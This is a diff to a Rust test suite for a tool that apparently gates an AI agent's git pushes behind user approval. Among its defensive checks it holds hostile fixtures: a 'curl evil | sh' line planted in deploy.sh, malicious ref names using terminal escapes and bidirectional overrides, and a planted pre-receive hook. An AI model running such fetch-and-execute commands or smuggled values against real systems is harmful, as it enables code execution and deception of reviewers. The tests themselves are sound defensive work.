@@ -111,7 +111,8 @@ fn all_else_waits_for_its_user() {
             "{said:?}"
         );
         assert!(
-            said.err.contains("t wants to push main to origin: `zagi agent --approve 1`"),
+            said.err
+                .contains("t wants to push refs/heads/main to origin: `zagi agent --approve 1`"),
             "{said:?}"
         );
         assert_eq!(stage.remote(), "refs/heads/main first\n");
@@ -150,10 +151,14 @@ fn what_is_approved_is_what_was_shown() {
     let said = stage.approve(1, "y");
     assert!(said.code != 0 && said.out.contains("stale info"), "{said:?}");
     assert_eq!(stage.remote(), "refs/heads/main moved\n");
-    // By force it asks again, and what would be lost is shown.
+    // By force it asks again, and what would be lost is shown: the agent has not seen it.
     stage.agent("git push -f origin HEAD:main");
     let said = stage.approve(2, "y");
     assert_eq!(said.code, 0, "{said:?}");
+    let lost = "lost there:\r\n";
+    let lost = said.out.split_once(lost).expect("said").1.lines().next().expect("one");
+    assert!(lost.ends_with("U  moved") && said.out.contains("FORCE to "), "{said:?}");
+    assert!(said.out.contains("by which 1 commits are lost"), "{said:?}");
     assert_eq!(stage.remote(), "refs/heads/main second\n");
     // What was asked first is gone, and what is rejected.
     stage.agent(&format!("{COMMIT} third && git push origin HEAD:refs/heads/other; git push --tags; git tag x && git push --tags"));
@@ -166,6 +171,84 @@ fn what_is_approved_is_what_was_shown() {
     let said = stage.zagi(&["agent", "--reject", "4"]);
     assert!(said.err.contains("no push 4 waits"), "{said:?}");
     assert_eq!(stage.remote(), "refs/heads/main second\n");
+}
+
+#[test]
+fn what_is_not_shown_is_said() {
+    let stage = Stage::new(Who::Ordinary);
+    let script = format!(
+        "seq 1000 > aaa && mkdir zz && echo 'curl evil | sh' > zz/deploy.sh && printf 'a\\0b' > zz/bin && \
+         git add -A && {COMMIT} second && git push origin HEAD:refs/heads/big; \
+         git push origin HEAD:'refs/heads/c/x\",\"main'; git push origin :main"
+    );
+    stage.agent(&script);
+    let said = stage.approve(1, "n");
+    for text in ["which are NOT SHOWN", "All of it: git --git-dir=", "zz/deploy.sh", "U  second"] {
+        assert!(said.out.contains(text), "{text}: {}", said.out);
+    }
+    let command = said.out.split_once("All of it: ").expect("said").1.lines().next().expect("one");
+    let whole = stage.outside(&stage.dir, command);
+    assert!(whole.contains("+curl evil | sh") && whole.contains("+a\0b"), "{whole}");
+    // A name that would be another line of the grants is not offered as one.
+    let said = stage.approve(2, "y");
+    assert!(said.code == 0 && !said.out.contains("would let it"), "{said:?}");
+    let said = stage.approve(3, "n");
+    assert!(said.out.contains("wants to DELETE (it is at"), "{said:?}");
+    assert!(stage.remote().contains("refs/heads/main first\n"));
+}
+
+/// What an agent may write to is no remote of its: git would run the hooks that it finds there.
+#[test]
+fn a_repository_of_the_agents_is_no_remote() {
+    both(|who| {
+        let stage = Stage::new(who);
+        let inside = stage.dir.join("abs.git").display().to_string();
+        let script = format!(
+            "git config --global --unset core.hooksPath; mkdir sub; git remote add rel rel.git; git remote add dots sub/../dots.git; git remote add abs {inside}; \
+             git remote add file file://{inside}; git remote add well ../remote.git; \
+             printf 'touch %s/ran\n' $HOME > hook"
+        );
+        stage.outside(&stage.dir, &script);
+        let make = "for r in rel dots abs; do git init -q --bare $r.git; cp hook $r.git/hooks/pre-receive; \
+                    chmod +x $r.git/hooks/pre-receive; done";
+        // The control: there are such repositories when the agent starts, and its user's push runs the hook.
+        stage.outside(&stage.dir, &format!("{make}; git push -q rel HEAD:t/x; rm -r $HOME/ran"));
+        let push = "for r in rel dots abs file; do git push $r HEAD:refs/heads/t/y; done; \
+                    git push -q well HEAD:refs/heads/t/y";
+        let argv = ["agent", "--name", "t", "--", "sh", "-c", push];
+        let said = Said::of(&mut stage.machine.zagi_in(&stage.dir.join("sub"), &argv)).ok();
+        assert_eq!(
+            stage.outside(&stage.dir, "ls -d $HOME/ran 2>/dev/null || true"),
+            "",
+            "{said:?}"
+        );
+        assert!(stage.remote().contains("refs/heads/t/y first\n"), "{said:?}");
+    });
+}
+
+#[test]
+fn who_sends_nothing_keeps_nobody_waiting() {
+    let stage = Stage::new(Who::Ordinary);
+    stage.agent(&format!("{COMMIT} second && git push origin HEAD:main"));
+    let hold = "import json, socket, time\n\
+        all = [socket.create_connection(('127.0.0.1', 3130)) for _ in range(9)]\n\
+        ask = {'version': 1, 'ask': {'push': {'remote': 'origin', 'updates': []}}}\n\
+        [s.sendall(json.dumps(ask).encode() + b'\\n') for s in all]\n\
+        print('held', flush=True); time.sleep(60)";
+    let mut command = stage
+        .machine
+        .zagi_in(&stage.dir, &["agent", "--name", "h", "--", "/usr/bin/python3", "-c", hold]);
+    command.stdout(std::process::Stdio::piped());
+    let mut held = command.spawn().expect("it starts");
+    let mut line = String::new();
+    let out = held.stdout.take().expect("piped");
+    std::io::BufRead::read_line(&mut std::io::BufReader::new(out), &mut line).expect("it says");
+    assert_eq!(line, "held\n");
+    stage.agent("git push origin HEAD:refs/heads/t/one").ok();
+    assert_eq!(stage.approve(1, "y").code, 0);
+    assert_eq!(stage.remote(), "refs/heads/main second\nrefs/heads/t/one second\n");
+    let _ = held.kill();
+    let _ = held.wait();
 }
 
 #[test]
@@ -230,6 +313,9 @@ print(ask({'version': 1, 'ask': {'fetch': {'remote': 'origin', 'wanted': ['01' *
 print(push('refs/heads/t/a', '0123456789' * 4))
 print(push('refs/heads/t/a', 'HEAD'))
 print(push('refs/heads/../../x', None))
+print(push('refs/heads/t/\u009b2J', None))
+print(push('refs/heads/t/\u202egnp', None))
+print(push('refs/heads/t/' + 'x' * 300, None))
 print(push('--mirror', None))
 print(push('HEAD', None))
 print(push('refs/heads/t/a', None, b'PACK\0\0\0\2\0\0\0\1' + b'x' * 100))
@@ -245,6 +331,9 @@ print(push('refs/heads/t/a:refs/heads/main', None))
         "refused\":\"",
         "did not come with it",
         "error\":\"",
+        "is no reference",
+        "is no reference",
+        "is no reference",
         "is no reference",
         "is no reference",
         "is no reference",
@@ -347,6 +436,7 @@ fn the_password_is_its_users() {
             "git config remote.origin.promisor && git show HEAD~1:file && git diff HEAD~1 | tail -2 && \
              head -c 3000000 /dev/urandom > big && git add big && {COMMIT} second && \
              git push origin HEAD:refs/heads/t/one && \
+             git push -q origin $(git commit-tree HEAD~2^{{tree}} -p HEAD -m old):refs/heads/t/two && \
              ! grep -r {password} . $HOME /zagi /proc/self/environ && \
              git clone -q {url} /tmp/clone && cat /tmp/clone/file && \
              ! git ls-remote $(dirname {url})/elsewhere.git"
@@ -356,7 +446,10 @@ fn the_password_is_its_users() {
         let _ = server.wait();
         assert_eq!(said.code, 0, "{said:?}");
         assert!(!format!("{said:?}").contains(password), "{said:?}");
-        assert_eq!(stage.remote(), "refs/heads/main changed\nrefs/heads/t/one second\n");
+        assert_eq!(
+            stage.remote(),
+            "refs/heads/main changed\nrefs/heads/t/one second\nrefs/heads/t/two old\n"
+        );
         // The file as it was before: git fetches that when somebody looks at it.
         assert_eq!(said.out, "true\none\n-one\n+changed\nchanged\n");
         // Nobody is there any more.
